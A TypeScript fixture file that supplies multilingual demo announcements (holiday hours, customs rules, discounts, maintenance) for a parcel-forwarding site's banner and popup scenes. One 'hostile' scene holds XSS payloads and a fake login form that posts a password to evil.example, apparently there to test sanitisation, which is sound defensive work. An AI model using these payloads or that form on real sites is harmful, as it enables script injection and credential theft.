import type { Language } from '../../../src/domain/i18n/language.ts';

/** A text in the languages of the demo's editors; Philippine pages show the English one. */
type Words = Readonly<Record<'cn' | 'en' | 'kr', string>>;

/** An announcement in the editors' form. */
interface Draft {
  readonly title: Words;
  readonly content: Words;
  readonly styleTemplate?: '0' | '10' | '20' | '30';
  readonly templateType?: string;
  readonly places: readonly ('popup' | 'top-stripes' | 'top-notice')[];
  /** The page that it links to, below the language's segment; none by default. */
  readonly leadsTo?: string;
}

const same = (words: string): Words => ({ cn: words, en: words, kr: words });
const NONE = same('');

const HOLIDAY: Draft = {
  title: {
    cn: '国庆期间仓库安排',
    en: 'Warehouse hours during the holidays',
    kr: '연휴 기간 창고 운영 안내',
  },
  content: {
    cn: '<p>10 月 1 日至 3 日暂停收货和打包，<b>10 月 4 日</b>恢复。客服照常在线。</p>',
    en: '<p>No parcels are taken in or packed from 1 to 3 October; we are back on <b>4 October</b>. Customer service answers as usual.</p>',
    kr: '<p>10월 1일부터 3일까지 입고와 포장을 쉽니다. <b>10월 4일</b>부터 다시 시작하며, 고객센터는 정상 운영합니다.</p>',
  },
  places: ['top-stripes'],
  leadsTo: 'page/help/',
};

const CUSTOMS: Draft = {
  title: {
    cn: '欧盟清关新规：请填写税号',
    en: 'New customs rule in the EU: please give your tax number',
    kr: 'EU 통관 규정 변경: 세금 번호를 입력해 주세요',
  },
  content: {
    cn: '<p>自 11 月起，没有税号的包裹会被退回。<a href="/cn/page/help/">如何填写</a></p>',
    en: '<p>From November on, parcels without one are sent back. <a href="/en/page/help/">How to fill it in</a></p>',
    kr: '<p>11월부터 세금 번호가 없는 소포는 반송됩니다. <a href="/en/page/help/">입력 방법</a></p>',
  },
  styleTemplate: '30',
  places: ['top-stripes'],
  leadsTo: 'page/help/',
};

const DELAY: Draft = {
  title: {
    cn: '台风影响：华南线路预计延误 2 至 4 天',
    en: 'Typhoon: lines through South China run two to four days late',
    kr: '태풍 영향: 화남 노선이 2~4일 지연됩니다',
  },
  content: {
    cn: '<p>已在途的包裹会按顺序发出，无需联系客服。</p>',
    en: '<p>Parcels on their way leave in their order. There is no need to write to us.</p>',
    kr: '<p>운송 중인 소포는 순서대로 출발합니다. 따로 문의하지 않으셔도 됩니다.</p>',
  },
  styleTemplate: '20',
  places: ['top-stripes'],
};

const RATES: Draft = {
  title: {
    cn: '空运经济线降价 8%',
    en: 'Economy air is 8% cheaper',
    kr: '이코노미 항공 운임이 8% 내렸습니다',
  },
  content: {
    cn: '<p>新价格已在运费估算中生效。</p>',
    en: '<p>The freight estimate has the new prices already.</p>',
    kr: '<p>새 운임은 배송비 계산에 이미 반영되었습니다.</p>',
  },
  styleTemplate: '10',
  places: ['top-stripes'],
  leadsTo: 'page/query/freight/',
};

const LONG_TITLE: Words = {
  cn: '关于二〇二六年十一月起部分国家和地区对含锂电池、液体、粉末、磁性物品以及仿牌商品加强查验并可能产生退运、销毁与罚款的重要通知，请所有在途包裹的用户务必在二十四小时内核对申报内容',
  en: 'Important notice about stricter checks from November 2026 on for parcels that contain lithium batteries, liquids, powders, magnets or copies of brands, which may be returned, destroyed or fined, so that everybody with a parcel on its way is asked to check their declaration within twenty-four hours',
  kr: '2026년 11월부터 일부 국가와 지역에서 리튬 배터리, 액체, 분말, 자성 물품 및 모조품이 포함된 소포에 대한 검사가 강화되어 반송, 폐기 또는 벌금이 발생할 수 있으니 운송 중인 소포가 있는 모든 고객께서는 24시간 안에 신고 내용을 반드시 확인해 주시기 바랍니다',
};

const PARAGRAPH: Words = {
  cn: '<p>请核对品名、数量和申报价值。申报不实造成的退运费由寄件人承担，我们会在收到海关通知后第一时间联系您。</p>',
  en: '<p>Please check names, quantities and declared values. Whoever declares wrongly pays for the way back; we write to you as soon as the customs office has written to us.</p>',
  kr: '<p>품명, 수량, 신고 금액을 확인해 주세요. 잘못된 신고로 인한 반송 비용은 발송인이 부담하며, 세관의 통지를 받는 즉시 연락드립니다.</p>',
};

const times = ({ cn, en, kr }: Words, count: number): Words => ({
  cn: cn.repeat(count),
  en: en.repeat(count),
  kr: kr.repeat(count),
});

const GIFT: Draft = {
  title: { cn: '双十一满减开始了', en: 'Singles’ Day offers have begun', kr: '광군제 할인이 시작되었습니다' },
  content: {
    cn: '<p>全场国际运费 <b>9 折</b>，满 500 元再减 30 元。</p><ul><li>优惠到 11 月 12 日零点</li><li>可与优惠券同享</li></ul>',
    en: '<p><b>10% off</b> all international shipping, and CN¥30 more above CN¥500.</p><ul><li>Until midnight of 11 November</li><li>Together with coupons</li></ul>',
    kr: '<p>모든 국제 배송비 <b>10% 할인</b>, 500위안 이상이면 30위안 추가 할인.</p><ul><li>11월 11일 자정까지</li><li>쿠폰과 함께 사용 가능</li></ul>',
  },
  styleTemplate: '10',
  places: ['popup'],
  leadsTo: 'page/subject?id=1111',
};

const TABLE = `<table><caption>Surcharge, CN¥ per kg</caption><thead><tr>${[
  'Country',
  ...Array.from({ length: 12 }, (_, at) => `Zone ${at + 1}`),
]
  .map((cell) => `<th>${cell}</th>`)
  .join('')}</tr></thead><tbody>${['Deutschland', 'Österreich', 'United Kingdom']
  .map(
    (name, row) =>
      `<tr><td>${name}</td>${Array.from({ length: 12 }, (_, at) => `<td>${(row + 1) * (at + 3)}.50</td>`).join('')}</tr>`,
  )
  .join('')}</tbody></table>`;

const HANDBOOK: Draft = {
  title: LONG_TITLE,
  content: same(
    `<h1>1. What changes</h1>${PARAGRAPH.en}<h3>Surcharges</h3>${TABLE}<p>A picture of the new label, larger than any window:</p>
<img src="/images/positions/header-banner.svg" width="2400" height="1600" alt="The new label">
<h1>2. What to do</h1><ol><li>Open your parcel.</li><li>Check each line.</li><li>Confirm: ${'verylongwordwithoutanyend'.repeat(6)}</li></ol>
<blockquote>Questions? <a href="mailto:service@harbourlane.example">Write to us</a> or look at <a href="https://www.example.com/" target="_blank">the office’s page</a>.</blockquote>${PARAGRAPH.en.repeat(4)}`,
  ),
  styleTemplate: '20',
  places: ['popup'],
  leadsTo: 'page/help/',
};

const RISK: Draft = {
  title: {
    cn: '该类商品有清关风险',
    en: 'Goods of this kind may be stopped by customs',
    kr: '이 상품은 통관이 거부될 수 있습니다',
  },
  content: {
    cn: '<p>目的地海关可能扣留、退回或销毁含电池的商品。因此产生的费用和损失由您承担。</p><p>继续即表示您已了解并接受上述风险。</p>',
    en: '<p>The customs office of your country may hold back, return or destroy goods with batteries. You bear the costs.</p><p>By going on you accept that risk.</p>',
    kr: '<p>도착 국가의 세관이 배터리가 든 상품을 보류, 반송 또는 폐기할 수 있습니다. 이로 인한 비용과 손해는 고객님이 부담합니다.</p><p>계속하면 위험을 이해하고 수락한 것으로 봅니다.</p>',
  },
  styleTemplate: '0',
  templateType: '1',
  places: ['popup'],
};

const NOTICE: Draft = {
  title: { cn: '今晚系统维护', en: 'Maintenance tonight', kr: '오늘 밤 시스템 점검' },
  content: {
    cn: '<p>北京时间 02:00 至 04:00 无法付款。</p>',
    en: '<p>No payments from 02:00 to 04:00, Beijing time.</p>',
    kr: '<p>베이징 시간 02:00부터 04:00까지 결제할 수 없습니다.</p>',
  },
  places: ['top-notice'],
  leadsTo: 'page/help/',
};

/** Content that must never run. If it did, a window with "XSS" would open. */
const HOSTILE: Draft = {
  title: same('<img src=x onerror="alert(\'XSS\')"> a title is a text'),
  content: same(
    `<p onclick="alert('XSS')" style="position:fixed;inset:0;background:red" id="content" class="modal">Only this text is left.</p>
<img src=x onerror="alert('XSS')"><svg onload="alert('XSS')"></svg><script>alert('XSS')</script>
<iframe srcdoc="<script>alert('XSS')</script>"></iframe><form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<a href="javascript:alert('XSS')">a link to nowhere</a> <img src="https://evil.example/pixel.gif" alt="[a picture of another host]">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('XSS')&gt;">`,
  ),
  places: ['popup', 'top-stripes', 'top-notice'],
};

/** The announcements of each scene, by its name. */
const SCENES = {
  stripe: [HOLIDAY],
  stripes: [RATES, HOLIDAY, DELAY, CUSTOMS],
  'stripe-title': [{ ...CUSTOMS, content: NONE }],
  'stripe-untitled': [{ ...DELAY, title: NONE }],
  'stripe-long': [{ ...CUSTOMS, title: LONG_TITLE, content: times(PARAGRAPH, 6) }],
  popup: [GIFT],
  'popup-plain': [{ ...GIFT, leadsTo: '', content: NONE }],
  'popup-long': [HANDBOOK],
  'popup-several': [GIFT, { ...CUSTOMS, places: ['popup'] }, { ...DELAY, places: ['popup'] }],
  warning: [RISK],
  'warning-link': [{ ...RISK, leadsTo: 'page/help/' }],
  notice: [NOTICE],
  'notice-long': [{ ...NOTICE, title: LONG_TITLE, content: times(PARAGRAPH, 4) }],
  all: [CUSTOMS, HOLIDAY, GIFT, NOTICE],
  hostile: [HOSTILE],
} as const satisfies Readonly<Record<string, readonly Draft[]>>;

export type AnnouncementScene = keyof typeof SCENES;
export const ANNOUNCEMENT_SCENES = Object.keys(SCENES) as readonly AnnouncementScene[];

/** First id in scenes, so that ids never collide with those of the table. */
const FIRST_ID = 9_001;

/** An announcement in the API's form. */
export interface ServedAnnouncement extends Record<string, unknown> {
  readonly hrefPositionList: readonly { readonly position: string }[];
}

/** The announcements of a scene; undefined for an unknown name. */
export function announcementScene(name: string, language: Language): readonly ServedAnnouncement[] | undefined {
  const scene = ANNOUNCEMENT_SCENES.indexOf(name as AnnouncementScene);
  if (scene < 0) return undefined;
  const drafts: readonly Draft[] = SCENES[name as AnnouncementScene];
  const words = (texts: Words) => texts[language === 'cn' || language === 'kr' ? language : 'en'];
  return drafts.map((draft, at) => {
    const id = FIRST_ID + scene * 100 + at * 10;
    const { places, leadsTo = '', styleTemplate = '0', templateType = '0' } = draft;
    const hrefs = {
      jumpHrefCn: leadsTo && `/cn/${leadsTo}`,
      jumpHrefEn: leadsTo && `/en/${leadsTo}`,
    };
    return {
      id,
      title: words(draft.title),
      content: words(draft.content),
      styleTemplate,
      templateType,
      templateTypeContent: '',
      hrefPositionList: places.map((position, place) => ({ id: id + place + 1, position, ...hrefs })),
    };
  });
}
